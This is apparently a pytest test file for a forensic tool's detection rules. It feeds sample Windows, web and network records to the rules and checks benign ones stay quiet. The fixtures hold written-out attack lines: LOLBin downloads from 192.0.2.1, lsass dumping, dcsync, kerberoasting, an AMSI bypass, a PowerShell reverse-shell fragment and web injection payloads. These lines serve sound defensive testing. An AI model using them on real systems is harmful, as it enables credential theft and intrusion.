"""Rules for attack logs and captures: each fires on a record of its behaviour, and ordinary look-alikes raise no technique."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from wigmore.model.protocols import Record
from wigmore.model.times import iso
from wigmore.records.indicators import match, scan
from wigmore.records.rows import RowMaker
from wigmore.records.rules import OWN_RULES, Indicator, load_indicators
from wigmore.records.store import RecordStore

NEW = (
    "windows_lolbins",
    "windows_sysmon",
    "windows_registry_events",
    "windows_directory",
    "windows_powershell_text",
    "web_attacks",
    "network_risks",
)
AUDIT, SYSMON, POSH = "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon", "Microsoft-Windows-PowerShell"
SYSTEM32 = "C:\\Windows\\System32\\"
USER = "S-1-5-21-1-2-3-1001"
Row = dict[str, Any]


def event(number: int, provider: str = AUDIT, **values: Any) -> Row:
    return {"event_id": number, "provider": provider, "computer": "HOST1", **values}


def started(line: str, image: str = "cmd.exe", parent: str = "explorer.exe", **values: Any) -> Row:
    return event(
        1, SYSMON, CommandLine=line, Image=SYSTEM32 + image, ParentImage=SYSTEM32 + parent, User="HOST1\\a", **values
    )


def shared(target: str, share: str = "\\\\*\\IPC$", **values: Any) -> Row:
    return event(5145, ShareName=share, RelativeTargetName=target, IpAddress="192.0.2.9", SubjectUserName="a", **values)


def opened(source: str, access: str, trace: str, target: str = "lsass.exe") -> Row:
    return event(10, SYSMON, SourceImage=source, TargetImage=SYSTEM32 + target, GrantedAccess=access, CallTrace=trace)


def value(key: str, details: str, image: str = "C:\\Windows\\regedit.exe") -> Row:
    return event(13, SYSMON, TargetObject=key, Details=details, Image=image, EventType="SetValue")


LINES = {
    "cmd.mshta": "mshta.exe http://192.0.2.1/a.hta",
    "cmd.regsvr32": "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
    "cmd.rundll32": 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x()',
    "cmd.xsl_script": 'wmic process list /FORMAT:"http://192.0.2.1/a.xsl"',
    "cmd.cmstp": "cmstp.exe /ni /s C:\\Users\\a\\x.inf",
    "cmd.msbuild": "MSBuild.exe C:\\Users\\a\\AppData\\x.csproj",
    "cmd.mavinject": "mavinject.exe 3110 /INJECTRUNNING C:\\x.dll",
    "cmd.indirect_start": "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
    "cmd.bits_job": "bitsadmin /transfer j http://192.0.2.1/a C:\\a",
    "cmd.forced_authentication": "certutil -syncwithWU \\\\192.0.2.1\\share",
    "cmd.file_association": "cmd /c assoc .txt=run",
    "cmd.transfer_insecure": "curl --insecure https://host.example/a",
    "cmd.credential_stored": "cmdkey /generic:host /user:a /pass:b",
    "cmd.lsass_dump": "sqldumper.exe lsass 0 0x0110",
    "cmd.process_dumped": "rundll32 comsvcs.dll, MiniDump 700 C:\\x.dmp full",
    "cmd.diagnosis_dump": "procdump64.exe -accepteula -ma 4312 C:\\hang.dmp",
    "cmd.account_database_saved": "reg save HKLM\\SAM s.hiv",
    "cmd.directory_database_copied": 'ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q',
    "cmd.directory_replication": 'm.exe "lsadump::dcsync /user:krbtgt"',
    "cmd.ticket_tools": "Rubeus.exe kerberoast /outfile:x",
    "cmd.tunnel": "plink.exe -R 4455:127.0.0.1:3389 a@192.0.2.1",
    "cmd.port_proxy": "netsh interface portproxy add v4tov4 listenport=1 connectport=3389 connectaddress=192.0.2.1",
    "cmd.domain_enquiry": "nltest /domain_trusts",
    "cmd.remote_shell_output": "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1550000000.1 2>&1",
    "cmd.service_pipe": "cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef",
    "cmd.potato": "JuicyPotato.exe -l 1337 -p cmd.exe -t *",
    "cmd.stream_hidden": "type C:\\a.exe > C:\\b.txt:c.exe",
    "cmd.ci_worm": "Runner.Listener configure --name SHA1HULUD",
    "cmd.password_search": "findstr /si password *.xml",
}
EVENTS: dict[str, list[Row]] = {
    "evtx.debug_library_in_fault_reporter": [
        event(7, SYSMON, Image=SYSTEM32 + "WerFaultSecure.exe", ImageLoaded=SYSTEM32 + "dbgcore.dll")
    ],
    "evtx.lsass_dump_trace": [opened("C:\\x.exe", "0x1fffff", "C:\\Windows\\System32\\dbgcore.DLL+6cfb")],
    "evtx.lsass_foreign_code": [opened("C:\\x.exe", "0x1410", "ntdll.dll+9f|UNKNOWN(00000001)")],
    "evtx.parent_spoofing": [
        opened("C:\\x.exe", "0x1f3fff", "ntdll.dll+1", "explorer.exe"),
        started("cmd", "cmd.exe", "explorer.exe"),
    ],
    "evtx.missing_library_dropped": [
        event(11, SYSMON, TargetFilename=SYSTEM32 + "wlbsctrl.dll", Image=SYSTEM32 + "cmd.exe")
    ],
    "evtx.hive_file_elsewhere": [event(11, SYSMON, TargetFilename="C:\\x\\ntuser.dat", Image="C:\\x.exe")],
    "evtx.web_script_dropped": [
        event(11, SYSMON, TargetFilename="C:\\inetpub\\wwwroot\\a.aspx", Image=SYSTEM32 + "w3wp.exe")
    ],
    "evtx.escalation_pipe": [event(17, SYSMON, PipeName="\\a\\pipe\\spoolss", Image="C:\\x.exe")],
    "evtx.hidden_stream": [event(15, SYSMON, TargetFilename="C:\\a.txt:evil.exe", Image="C:\\x.exe")],
    "evtx.elevated_child": [started("cmd.exe", "cmd.exe", "fodhelper.exe")],
    "evtx.renamed_system_tool": [started("a.exe", "a.exe", OriginalFileName="PowerShell.EXE")],
    "evtx.process_tampered": [event(25, SYSMON, Image="C:\\x.exe", Type="Image is replaced")],
    "evtx.component_hijack": [
        value(
            "HKU\\S-1-5-21-1_Classes\\CLSID\\{11111111-1111-1111-1111-111111111111}\\InprocServer32\\(Default)",
            "C:\\Users\\a\\x.dll",
        )
    ],
    "evtx.winlogon_value": [
        value("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "explorer.exe, C:\\x.exe")
    ],
    "evtx.security_package": [value("HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages", "evil")],
    "evtx.secrets_guard_value": [
        value(
            "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
            "DWORD (0x00000001)",
        )
    ],
    "evtx.service_pipe_value": [
        value("HKLM\\System\\CurrentControlSet\\Services\\abc\\ImagePath", "cmd.exe /c echo abc > \\\\.\\pipe\\abc")
    ],
    "evtx.guest_or_rid_value": [value("HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F", "Binary Data")],
    "evtx.hidden_account_value": [value("HKLM\\X\\Winlogon\\SpecialAccounts\\UserList\\a", "DWORD (0x00000000)")],
    "evtx.kerberos_spray": [
        event(4771, Status="0x18", TargetUserName=f"u{n}", IpAddress="192.0.2.9") for n in range(6)
    ],
    "evtx.logon_spray": [event(4625, TargetUserName=f"u{n}", IpAddress="192.0.2.9", LogonType=3) for n in range(7)],
    "evtx.no_preauthentication_ticket": [
        event(4768, PreAuthType="0", TicketEncryptionType="0x17", Status="0x0", TargetUserName="u")
    ],
    "evtx.local_kerberos_administrator": [
        event(
            4624,
            LogonType=3,
            AuthenticationPackageName="Kerberos",
            IpAddress="127.0.0.1",
            TargetUserSid="S-1-5-21-1-2-3-500",
        )
    ],
    "evtx.anonymous_loopback": [event(4624, LogonType=3, TargetUserSid="S-1-5-7", IpAddress="127.0.0.1")],
    "evtx.rogue_controller": [
        event(
            4742,
            ServicePrincipalNames="HOST/a GC/a.example/example",
            SubjectUserSid=USER,
            SubjectUserName="a",
            TargetUserName="A$",
        )
    ],
    "evtx.computer_renamed_as_user": [
        event(4781, OldTargetUserName="PC9$", NewTargetUserName="DC01", SubjectUserName="a")
    ],
    "evtx.netlogon_change": [event(4742, SubjectUserSid="S-1-5-7", TargetUserName="DC01$")],
    "evtx.directory_collection": [shared("samr"), shared("srvsvc")],
    "evtx.account_pipes_in_a_row": [shared(pipe) for pipe in ("samr", "samr", "lsarpc", "netlogon", "samr")],
    "evtx.logged_on_enquiry": [shared("winreg"), shared("srvsvc")],
    "evtx.tool_pipe_remote": [shared("other-PC01-123-stdin")],
    "evtx.dump_over_share": [shared("SYSTEM32\\AbCdEfGh.tmp", "\\\\*\\ADMIN$")],
    "evtx.short_lived_task": [event(4698, TaskName="\\x"), event(4699, TaskName="\\x")],
    "evtx.logon_then_management_host": [
        event(4624, LogonType=3, IpAddress="192.0.2.9", TargetUserName="a", TargetUserSid=USER),
        event(4688, NewProcessName=SYSTEM32 + "wbem\\WmiPrvSE.exe"),
    ],
    "evtx.service_pipe": [
        event(7045, "Service Control Manager", ServiceName="abc", ImagePath="cmd.exe /c echo a > \\\\.\\pipe\\a")
    ],
    "posh.scanner_bypass": [
        event(
            4104,
            POSH,
            ScriptBlockText="[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
            ScriptBlockId="1",
        )
    ],
    "posh.credential_tool": [event(4104, POSH, ScriptBlockText="Invoke-Mimikatz -DumpCreds", ScriptBlockId="1")],
    "posh.directory_enquiry": [event(4104, POSH, ScriptBlockText="Get-DomainUser -SPN", ScriptBlockId="1")],
    "posh.reverse_shell": [
        event(
            4104,
            POSH,
            ScriptBlockText="$c = New-Object Net.Sockets.TCPClient('192.0.2.1',4444); $s = $c.GetStream()",
            ScriptBlockId="1",
        )
    ],
}


def asked(path: str, query: str = "", **values: Any) -> Row:
    return {
        "client": "192.0.2.9",
        "method": "GET",
        "status": 200,
        "path": path,
        "query": query,
        "request": f"GET {path}?{query} HTTP/1.1",
        **values,
    }


WEB: dict[str, list[Row]] = {
    "web.xss": [asked("/a", "q=<script>alert(1)</script>")],
    "web.command_injection": [asked("/a.cgi", "host=1;cat /etc/hosts")],
    "web.code_injection": [asked("/index.php", "page=php://input")],
    "web.shellshock": [asked("/cgi-bin/a", user_agent="() { :; }; /bin/id")],
    "web.known_exploit": [asked("/vendor/phpunit/src/Util/PHP/eval-stdin.php")],
    "web.application_deployed": [asked("/manager/html/upload", method="POST")],
    "web.shell_page": [asked("/error/cmd.jsp")],
    "web.tunnel_script": [asked("/app/conn.aspx", "proxy") for _ in range(3)],
}
CAPTURE: dict[str, tuple[str, list[Row]]] = {
    "risk.obsolete_tls": (
        "network.tls",
        [{"obsolete_version": True, "version_chosen": "TLS 1.0", "server_address": "192.0.2.1", "server_name": "a"}],
    ),
    "risk.weak_cipher": ("network.tls", [{"cipher": "0x0005", "server_address": "192.0.2.1", "server_name": "a"}]),
    "risk.missing_sni": (
        "network.tls",
        [{"version": "TLS 1.2", "ja3": "0", "server_address": "192.0.2.1", "client_address": "192.0.2.2"}],
    ),
    "risk.ssh_obsolete_server": (
        "network.ssh",
        [{"server_version": "SSH-2.0-OpenSSH_5.3", "server_address": "192.0.2.1"}],
    ),
    "risk.odd_port": (
        "network.conversation",
        [
            {
                "protocol": "HTTP",
                "protocol_told_by": "content",
                "payload_down": 9,
                "server_port": 4711,
                "server_address": "192.0.2.1",
            }
        ],
    ),
    "risk.http_agent": (
        "network.http",
        [{"user_agent": "sqlmap/1.7", "client_address": "192.0.2.2", "server_address": "192.0.2.1"}],
    ),
    "risk.numeric_host": ("network.http", [{"host": "192.0.2.1:8080", "client_address": "192.0.2.2"}]),
    "risk.dga": (
        "network.dns",
        [
            {
                "protocol": "DNS",
                "message": "query",
                "name": "xkqzwvbtrp.com",
                "domain": "xkqzwvbtrp.com",
                "client_address": "192.0.2.2",
            }
        ],
    ),
    "risk.smb_insecure": (
        "network.smb",
        [{"protocol": "SMBv1", "client_address": "192.0.2.2", "server_address": "192.0.2.1", "command": "negotiate"}],
    ),
    "risk.possible_exploit": (
        "network.ldap",
        [
            {
                "values": {"javaCodeBase": ["http://192.0.2.1/"]},
                "server_address": "192.0.2.1",
                "client_address": "192.0.2.2",
            }
        ],
    ),
}
ORDINARY = [
    started("rundll32.exe printui.dll,PrintUIEntry /il"),
    started("rundll32.exe shell32.dll,Control_RunDLL timedate.cpl"),
    started("regsvr32 /s C:\\Windows\\System32\\msxml6.dll"),
    started("certutil -hashfile C:\\a.iso SHA256"),
    started("net use Z: \\\\files01\\projects"),
    started("whoami"),
    started("ipconfig /all"),
    started("wmic os get caption"),
    started('schtasks /Create /TN X /TR "C:\\Program Files\\V\\u.exe"'),
    started("7z a D:\\b.7z C:\\projects"),
    event(7, SYSMON, Image=SYSTEM32 + "svchost.exe", ImageLoaded=SYSTEM32 + "version.dll", Signed="true"),
    event(11, SYSMON, TargetFilename="C:\\Users\\a\\NTUSER.DAT", Image=SYSTEM32 + "svchost.exe"),
    event(
        11,
        SYSMON,
        TargetFilename="C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\a.xlsx.lnk",
        Image="C:\\Windows\\explorer.exe",
    ),
    event(15, SYSMON, TargetFilename="C:\\Users\\a\\Downloads\\a.exe:Zone.Identifier", Image="C:\\chrome.exe"),
    opened(SYSTEM32 + "svchost.exe", "0x1000", "ntdll.dll+9d4c4"),
    value(
        "HKCR\\CLSID\\{11111111-1111-1111-1111-111111111111}\\InprocServer32\\(Default)", "C:\\Program Files\\V\\x.dll"
    ),
    value("HKLM\\X\\Windows NT\\CurrentVersion\\Winlogon\\Shell", "explorer.exe"),
    event(
        4624,
        LogonType=3,
        TargetUserName="a",
        TargetUserSid=USER,
        IpAddress="10.0.0.2",
        LogonProcessName="Kerberos",
        KeyLength="0",
    ),
    event(
        4769,
        TargetUserName="a",
        ServiceName="svc",
        TicketEncryptionType="0x12",
        TicketOptions="0x40810000",
        Status="0x0",
    ),
    event(
        4742, SubjectUserSid="S-1-5-18", SubjectUserName="DC01$", ServicePrincipalNames="HOST/a", TargetUserName="A$"
    ),
    event(4104, POSH, ScriptBlockText="Get-Service | Where-Object Status -eq 'Running'", ScriptBlockId="1"),
    event(4781, OldTargetUserName="PC1$", NewTargetUserName="PC2$"),
]


@pytest.fixture(scope="module")
def rules() -> dict[str, Indicator]:
    return load_indicators([OWN_RULES])


class Scenes:
    """Scenes put into one store, each a source of its own, and scanned once for all rules of their artifact."""

    def __init__(self, folder: Path, rules: dict[str, Indicator]) -> None:
        self.store, self.folder, self.rules, self.count = RecordStore(folder / "case"), folder, rules, 0

    def add(self, artifact: str, rows: list[Row]) -> str:
        source = f"src-{self.count}"
        self.count += 1
        maker, spool = RowMaker(source, "log", None, artifact), self.folder / f"{source}.jsonl"
        records = [Record(r, {"t": iso(f"2026-01-01T10:00:{n:02d}Z")}, "t") for n, r in enumerate(rows)]
        spool.write_bytes(b"".join(maker.line(n, {"kind": "record", "number": n}, r)[2] for n, r in enumerate(records)))
        self.store.add([self.store.write_part(source, artifact, [spool])])
        return source

    def sources(self, rule: str) -> set[str]:
        groups = match(self.store, self.rules[rule], None, {}, catalogue=self.rules.values())
        return {str(g.group["source_id"]) for g in groups}


@pytest.fixture
def scenes(tmp_path: Path, rules: dict[str, Indicator]) -> Iterator[Scenes]:
    made = Scenes(tmp_path, rules)
    yield made
    made.store.close()


def test_each_behaviour_is_seen_in_its_scene(scenes: Scenes) -> None:
    wanted = {name: scenes.add("windows.eventlog", [started(line)]) for name, line in LINES.items()}
    wanted |= {name: scenes.add("windows.eventlog", rows) for name, rows in EVENTS.items()}
    wanted |= {name: scenes.add("web.access", rows) for name, rows in WEB.items()}
    wanted |= {name: scenes.add(artifact, rows) for name, (artifact, rows) in CAPTURE.items()}
    assert [name for name, source in wanted.items() if source not in scenes.sources(name)] == []


def test_ordinary_events_raise_no_technique(scenes: Scenes, rules: dict[str, Indicator]) -> None:
    for row in ORDINARY:
        scenes.add("windows.eventlog", [row])
    scenes.add(
        "web.access",
        [asked("/search", "q=union+of+select+committees"), asked("/index.php", "page=2"), asked("/js/ajax.js")],
    )
    triage = [r for r in rules.values() if r.phase == "triage" and r.attack]
    hits = scan(scenes.store, triage, None, rules.values())
    assert [name for name in sorted(hits) if scenes.sources(name)] == []


def test_every_new_rule_says_what_it_sees_what_it_does_not_and_names_its_fields(rules: dict[str, Indicator]) -> None:
    for rule in rules.values():
        if rule.origin.removesuffix(".yaml") in NEW:
            named = set(re.findall(r"\{([^{}]+)\}", rule.title)) - {"count", "first", "last"}
            assert named <= {str(f) for f in (*rule.facts, *rule.group_by)}, rule.id
            assert rule.caveat.endswith(".") and rule.interpretation.endswith("."), rule.id
            assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.attack), rule.id
            assert 1 <= rule.significance <= 9, rule.id


def test_no_rule_looks_at_the_name_of_the_file_that_its_events_stand_in(rules: dict[str, Indicator]) -> None:
    logs = ("windows.eventlog", "network.", "web.")
    keyed = [
        r.id
        for r in rules.values()
        if all(a.startswith(logs) for a in r.artifacts) and re.search(r"'field': 'path'", repr(r.where))
    ]
    assert keyed == []
